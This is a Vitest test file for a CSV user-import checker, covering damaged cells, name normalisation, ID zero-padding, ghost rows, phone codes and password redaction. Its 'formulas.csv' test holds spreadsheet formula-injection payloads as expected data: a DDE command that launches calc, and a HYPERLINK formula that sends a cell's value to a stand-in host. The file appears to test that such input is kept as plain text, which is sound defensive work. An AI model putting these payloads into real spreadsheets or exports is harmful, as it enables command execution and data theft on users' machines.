import { readFileSync } from 'node:fs';
import Papa from 'papaparse';
import { describe, expect, it, test } from 'vitest';
import { createRowCheck, type CheckedRow } from './check';
import { bindColumns } from './columns';
import { fieldBit, fieldIndex, fieldKeys, type FieldKey } from './fields';
import { countId, createIdLengths, paddedLength, zerosLost } from './zeros';

const context = {
	standardiseUsernames: true,
	venues: ['Melbourne', 'Harbour Hall', 'Riverside Centre'],
	callingCode: ''
};

/** Rows of a fixture by physical line; the fixtures used here have one row on each line. */
function checkFixture(name: string, settings = context): Map<number, CheckedRow> {
	const text = readFileSync(`tests/fixtures/${name}`, 'utf8').replace(/^\ufeff/, '');
	const [headers = [], ...rows] = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
	const fields = bindColumns(headers).map(({ field }) => field);
	const check = createRowCheck(settings);
	return new Map(
		rows.map((cells, index) => [
			index + 2,
			check(fieldKeys.map((key) => cells[fields.indexOf(key)]))
		])
	);
}

function cellsOf(cells: Partial<Record<FieldKey, string>>): (string | undefined)[] {
	return fieldKeys.map((key) => cells[key]);
}

const said = (row: CheckedRow | undefined) =>
	(row?.issues ?? []).map(({ code, field }) => `${code} ${field}`);

describe('damage.csv', () => {
	const rows = checkFixture('damage.csv');

	test.each<[number, string[]]>([
		[2, ['unwrapped clientId']],
		[3, ['unwrapped clientId', 'unwrapped email', 'unwrapped phone']],
		[4, ['unwrapped email']],
		[5, ['number_damage clientId']],
		[6, ['number_damage phone']],
		[7, ['error_value lastName']],
		[8, ['error_value clientId']],
		[9, []],
		[10, ['tidied firstName', 'tidied lastName']],
		[11, ['tidied clientId', 'tidied firstName', 'tidied lastName']],
		[12, ['tidied firstName', 'tidied lastName']],
		[13, []],
		[
			14,
			[
				...['tidied username', 'username_standardised username'],
				...['tidied firstName', 'tidied lastName', 'tidied phone']
			]
		],
		[15, ['control_character firstName']],
		[16, ['tidied phone']],
		[17, ['phone_without_country phone']],
		[18, []],
		[19, ['error_value phone']]
	])('F1, F2, F6, F8 line %i says %j', (line, expected) => {
		expect(said(rows.get(line))).toEqual(expected);
	});

	it('F2 has six rows with errors and twelve without', () => {
		const bad = [...rows].filter(([, row]) => row.bad !== 0).map(([line]) => line);
		expect(bad).toEqual([5, 6, 7, 8, 15, 19]);
		expect(rows.size - bad.length).toBe(12);
	});

	test.each<[string, number, object]>([
		['F2', 2, { clientId: '00000012' }],
		['F6', 3, { clientId: '00000013', email: 'paul.oduya@damage.example', phone: '+447700900302' }],
		['F6', 4, { email: 'ida.rasmussen@damage.example' }],
		['F1', 10, { firstName: 'Rosa María', lastName: 'Tejada' }],
		['F1', 11, { clientId: '00000020', firstName: 'Goran', lastName: 'Babić' }],
		[
			'F1, F5, F8',
			14,
			{
				username: 'mira.kovacs',
				firstName: 'Mira',
				lastName: 'Kovács Nagy',
				phone: '+447700900313'
			}
		],
		['F3, F4, F8', 16, { title: 'Mr', eligible: true, deleted: false, phone: '+447700900315' }],
		['F8', 17, { phone: '07700900316' }],
		['F1', 18, { firstName: 'نور\u200cالهدى' }]
	])('%s line %i is read as meant', (_, line, expected) => {
		expect(rows.get(line)?.record).toMatchObject(expected);
	});

	it('F1 lines 12 and 13 are stored equal', () => {
		const [first, second] = [rows.get(12)?.record, rows.get(13)?.record];
		expect(first?.firstName).toBe('Zoë');
		expect([first?.firstName, first?.lastName]).toEqual([second?.firstName, second?.lastName]);
	});

	it('F2 line 9 alone lost its zeros', () => {
		const lengths = createIdLengths();
		for (const { record } of rows.values()) countId(lengths, record.clientId ?? '');
		const length = paddedLength(lengths);
		const lost = [...rows].filter(([, { record }]) => zerosLost(record.clientId ?? '', length));
		expect(lost.map(([line]) => line)).toEqual([9]);
	});
});

describe('vendor-16.csv', () => {
	const rows = [...checkFixture('vendor-16.csv').values()];
	const people = rows.filter(({ isGhost }) => !isGhost);

	it('R6 has 40 people and 600 ghosts', () => {
		expect([people.length, rows.length - people.length]).toEqual([40, 600]);
	});
	it('F4 reads every title as Mr or Ms', () => {
		expect(new Set(people.map(({ record }) => record.title))).toEqual(new Set(['Mr', 'Ms']));
	});
	it('F10 knows every venue in spite of a space at its end', () => {
		const venues = new Set(people.map(({ record }) => record.venue));
		expect([...venues].every((venue) => context.venues.includes(venue ?? ''))).toBe(true);
	});
	it('F8 warns of 40 phones without a country, and of nothing else', () => {
		const loud = people.flatMap(({ issues }) => issues).filter(({ level }) => level !== 'note');
		expect(loud).toHaveLength(40);
		expect(new Set(loud.map(({ code }) => code))).toEqual(new Set(['phone_without_country']));
	});
	it('F8 warns of none once a country is set', () => {
		const set = [...checkFixture('vendor-16.csv', { ...context, callingCode: '61' }).values()];
		const loud = set.flatMap(({ issues }) => issues).filter(({ level }) => level !== 'note');
		expect(loud).toEqual([]);
		expect(set[0]?.record.phone).toBe('+61491570156');
	});
});

describe('files without a fault', () => {
	test.each([
		['users-13.csv', 24],
		['headers-moodle.csv', 10],
		['headers-canvas.csv', 10],
		['headers-google.csv', 10],
		['formulas.csv', 10]
	])('F1 reads %s with no error and no warning', (fixture, count) => {
		const rows = [...checkFixture(fixture).values()];
		expect(rows).toHaveLength(count);
		expect(rows.flatMap(({ issues }) => issues).filter(({ level }) => level !== 'note')).toEqual(
			[]
		);
		expect(rows.filter(({ isGhost }) => isGhost)).toEqual([]);
	});

	it('F1 notes two composed people in users-13.csv', () => {
		const noted = [...checkFixture('users-13.csv').values()].filter(({ issues }) =>
			issues.some(({ code }) => code === 'tidied')
		);
		expect(noted).toHaveLength(2);
	});

	it('W2 takes asterisks in headers-google.csv for blank', () => {
		const rows = checkFixture('headers-google.csv');
		const filled = [...rows].filter(([, row]) => row.filled & fieldBit('password'));
		expect(filled.map(([line]) => line)).toEqual([2, 3, 4, 5, 6, 7, 8]);
	});

	it('F2 keeps what formulas.csv holds', () => {
		const rows = checkFixture('formulas.csv');
		const names = [...rows.values()].map(({ record }) => `${record.firstName}|${record.lastName}`);
		expect(names).toEqual([
			'=1+1|Adair',
			'+Bo|Bright',
			'-Cas|Cole',
			'@Dee|Drew',
			'Eli|Ehr',
			"'Abd al-Noor|Faris",
			'=HYPERLINK("https://mirror.example/?"&A2,"open")|Gant',
			"=cmd|' /C calc'!A0|Hume",
			'Ivy|@SUM(A1:A9)',
			'Jo|-2+3+Kay'
		]);
	});
});

describe('createRowCheck', () => {
	const check = createRowCheck(context);

	it('R6 takes a row without a person for a ghost, whatever else it holds', () => {
		expect(
			check(cellsOf({ title: 'Mr', role: 'x', deleted: '0', password: 'p', venue: 'y' })).isGhost
		).toBe(true);
		expect(check(cellsOf({ clientId: '\u200b ', username: '=""' })).isGhost).toBe(true);
	});
	test.each<[FieldKey, string]>([
		['clientId', '1'],
		['username', '***'],
		['firstName', 'A'],
		['lastName', '#N/A'],
		['email', 'x'],
		['phone', 'x']
	])('R6 takes no row with a %s for a ghost', (field, cell) => {
		expect(check(cellsOf({ [field]: cell })).isGhost).toBe(false);
	});

	it('F12 marks filled and bad fields by bit', () => {
		const row = check(
			cellsOf({ clientId: '7', role: 'teacher', deleted: 'no', password: 'p'.repeat(129) })
		);
		expect(row.filled).toBe(fieldBit('clientId') | fieldBit('deleted'));
		expect(row.bad).toBe(fieldBit('role') | fieldBit('password'));
	});

	it('W5 keeps the password out of record and issues', () => {
		const secret = ' Zq4-very-secret';
		const row = check(cellsOf({ clientId: '7', password: secret }));
		expect(row.filled & fieldBit('password')).not.toBe(0);
		expect(JSON.stringify(row)).not.toContain('very-secret');
	});

	it('H2 tells no absent column from a blank one', () => {
		const absent = check(cellsOf({ clientId: '7' }));
		const blank = check(fieldKeys.map((_, index) => (index === fieldIndex.clientId ? '7' : ' ')));
		expect(blank).toEqual(absent);
		expect(Object.keys(blank.record)).toEqual(Object.keys(absent.record));
	});

	it('F12 goes on reading right after many thousand distinct words', () => {
		for (let number = 0; number < 5000; number += 1)
			expect(check(cellsOf({ venue: `Hall ${number}` })).record.venue).toBe(`Hall ${number}`);
		expect(check(cellsOf({ venue: 'harbour hall' })).record.venue).toBe('Harbour Hall');
	});
});
